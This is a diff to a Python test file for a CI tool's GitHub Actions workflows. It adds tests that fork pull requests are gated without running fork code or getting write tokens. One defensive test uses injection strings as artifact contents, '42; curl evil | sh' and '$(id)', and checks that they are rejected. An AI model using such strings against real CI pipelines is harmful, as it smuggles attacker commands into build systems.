@@ -6,6 +6,7 @@ Cheap structural checks that run with the unit tests; ``scripts/lint-actions.sh`
 
 from __future__ import annotations
 
+import json
 import os
 import re
 import subprocess
@@ -23,8 +24,10 @@ CI = ROOT / ".github" / "workflows" / "ci.yml"
 EXAMPLE = ROOT / "examples" / "flask-app" / ".github" / "workflows" / "shunter.yml"
 APP_EXAMPLE = ROOT / "examples" / "app-token" / ".github" / "workflows" / "shunter.yml"
 NOTIFY_EXAMPLE = ROOT / "examples" / "image-build" / ".github" / "workflows" / "build.yml"
+FORK_PR = ROOT / "examples" / "forks" / ".github" / "workflows" / "shunter-pr.yml"
+FORK_GATE = ROOT / "examples" / "forks" / ".github" / "workflows" / "shunter-gate.yml"
 PIPELINES = [EXAMPLE, APP_EXAMPLE]
-ALL_FILES = [ACTION, CI, *PIPELINES, NOTIFY_EXAMPLE]
+ALL_FILES = [ACTION, CI, *PIPELINES, NOTIFY_EXAMPLE, FORK_PR, FORK_GATE]
 
 OPERATIONS = list(RUN_OPERATIONS)  # tests/test_action_operations.py derives them from the CLI
 EMERGENCY_INPUTS = ["operation", "freight", "from", "stage", "warehouse", "reason"]
@@ -44,6 +47,7 @@ CLI_ENV = {
     "SHUNTER_DEADLINE": "deadline",
     "SHUNTER_MODE": "mode",
     "SHUNTER_NOTIFY_REPOSITORY": "repository",
+    "SHUNTER_PULL_REQUEST": "pull-request",
 }
 SHA_PIN = re.compile(r"^[\w.-]+/[\w.-]+(/[\w./-]+)?@[0-9a-f]{40}$")
 
@@ -96,7 +100,7 @@ def test_the_same_action_is_pinned_to_the_same_commit_everywhere() -> None:
     assert {name: len(shas) for name, shas in pins.items()} == dict.fromkeys(pins, 1)
 
 
-@pytest.mark.parametrize("path", [CI, *PIPELINES, NOTIFY_EXAMPLE], ids=str)
+@pytest.mark.parametrize("path", [CI, *PIPELINES, NOTIFY_EXAMPLE, FORK_PR, FORK_GATE], ids=str)
 def test_top_level_permissions_are_empty_or_read_only(path: Path) -> None:
     permissions = load(path)["permissions"]
     assert permissions == {} or set(permissions.values()) == {"read"}
@@ -159,6 +163,83 @@ def test_the_example_listens_to_the_events_shunter_reacts_to(path: Path) -> None
     # `package` is not a workflow trigger (GitHub rejects the file); PR code never runs
     # with the repository's write token.
     assert not {"package", "pull_request_target", "workflow_run"} & set(on)
+
+
+@pytest.mark.parametrize("path", PIPELINES, ids=str)
+def test_every_pr_into_main_gets_the_gate_check_from_a_job_that_cannot_write(path: Path) -> None:
+    workflow = load(path)
+    assert workflow["on"]["pull_request"] == {"branches": ["main"]}
+    main_job, gate = workflow["jobs"]["shunter"], workflow["jobs"]["gate"]
+    # pull_request events run the gate job only, and only for this repository's branches
+    # (a fork's PR gets a read-only token: examples/forks/ checks those).
+    assert "github.event_name != 'pull_request'" in main_job["if"]
+    assert "github.event_name == 'pull_request'" in gate["if"]
+    assert "head.repo.full_name == github.repository" in gate["if"]
+    assert gate["permissions"] == {"contents": "read", "pull-requests": "read", "checks": "write"}
+    checkout, shunter = gate["steps"]
+    assert checkout["with"]["ref"] == "${{ github.event.repository.default_branch }}"
+    assert shunter["with"] == {
+        "operation": "check-pr",
+        "pull-request": "${{ github.event.pull_request.number }}",
+    }
+    # One pending check per PR: another PR's run never replaces it.
+    assert gate["concurrency"] == {
+        "group": "shunter-gate-${{ github.event.pull_request.number }}",
+        "cancel-in-progress": False,
+    }
+
+
+def test_forks_are_checked_by_a_workflow_run_that_never_runs_their_code() -> None:
+    record, check = load(FORK_PR), load(FORK_GATE)
+    # Step 1 runs on the fork's PR with no permissions at all and only writes a number.
+    assert set(record["on"]) == {"pull_request"}
+    (job,) = record["jobs"].values()
+    assert job["permissions"] == {}
+    write, upload = job["steps"]
+    assert write["env"] == {"PR_NUMBER": "${{ github.event.pull_request.number }}"}
+    assert upload["uses"].startswith("actions/upload-artifact@")
+    # Step 2 runs the default branch's file, triggered by step 1, never pull_request_target.
+    assert check["on"] == {"workflow_run": {"workflows": [record["name"]], "types": ["completed"]}}
+    for doc in (record, check):
+        assert "pull_request_target" not in doc["on"]
+    (gate,) = check["jobs"].values()
+    assert gate["permissions"]["checks"] == "write"
+    assert gate["permissions"]["contents"] == "read"
+    # Nothing of the PR is checked out: the checkout is the default branch, and the PR's
+    # head (its SHA or branch) reaches no step.
+    steps = gate["steps"]
+    checkout = next(s for s in steps if s.get("uses", "").startswith("actions/checkout@"))
+    assert checkout["with"]["ref"] == "${{ github.event.repository.default_branch }}"
+    for step in steps:
+        assert "head_sha" not in json.dumps(step) and "head_branch" not in json.dumps(step)
+    shunter = next(s for s in steps if "shunter" in s.get("uses", ""))
+    assert shunter["with"] == {
+        "operation": "check-pr",
+        "pull-request": "${{ steps.pr.outputs.number }}",
+    }
+
+
+@pytest.mark.parametrize(
+    ("artifact", "number"),
+    [("42\n", "42"), ("42; curl evil | sh\n", None), ("", None), ("$(id)\n", None)],
+)
+def test_the_fork_gate_takes_only_digits_from_the_artifact(
+    tmp_path: Path, artifact: str, number: str | None
+) -> None:
+    (gate,) = load(FORK_GATE)["jobs"].values()
+    step = next(s for s in gate["steps"] if s.get("id") == "pr")
+    (tmp_path / "shunter-pr").mkdir()
+    (tmp_path / "shunter-pr" / "number").write_text(artifact)
+    output = tmp_path / "output"
+    output.touch()
+    env = {"RUNNER_TEMP": str(tmp_path), "GITHUB_OUTPUT": str(output)}
+    if number is None:
+        with pytest.raises(subprocess.CalledProcessError):
+            run_step(step, env)
+        assert output.read_text() == ""
+    else:
+        run_step(step, env)
+        assert output.read_text() == f"number={number}\n"
 
 
 def test_the_app_token_example_mints_a_token_and_hands_it_to_checkout_and_shunter() -> None:
@@ -225,6 +306,7 @@ def test_action_inputs_and_defaults() -> None:
         "api-url": "${{ github.api_url }}",
         "deadline": "",  # ProjectConfig spec.deadline, 10m
         **dict.fromkeys(EMERGENCY_INPUTS, ""),
+        "pull-request": "",
     }
     outputs = load(ACTION)["outputs"]
     assert set(outputs) == {"promotions", "state-commit"}
@@ -304,9 +386,16 @@ def test_the_run_step_hands_the_cli_its_environment(
     ]
 
 
-@pytest.mark.parametrize(("mode", "ran"), [("run", "args=doctor\n"), ("notify", "")])
+@pytest.mark.parametrize(
+    ("mode", "operation", "ran"),
+    [
+        ("run", "", "args=doctor\n"),
+        ("notify", "", ""),
+        ("run", "check-pr", ""),  # a refused PR is not the repository's problem
+    ],
+)
 def test_a_failed_run_diagnoses_the_repository_except_in_notify_mode(
-    tmp_path: Path, mode: str, ran: str
+    tmp_path: Path, mode: str, operation: str, ran: str
 ) -> None:
     step = action_step("Diagnose the repository")
     assert step["if"] == "failure()"
@@ -314,5 +403,6 @@ def test_a_failed_run_diagnoses_the_repository_except_in_notify_mode(
     fake.parent.mkdir(parents=True)
     fake.write_text('#!/bin/sh\necho "args=$*"\nexit 1\n')  # doctor found a problem
     fake.chmod(0o755)
-    result = run_step(step, {"RUNNER_TEMP": str(tmp_path), "SHUNTER_MODE": mode})
+    env = {"RUNNER_TEMP": str(tmp_path), "SHUNTER_MODE": mode, "SHUNTER_OPERATION": operation}
+    result = run_step(step, env)
     assert result.stdout == ran  # and the step itself succeeds: the run already failed
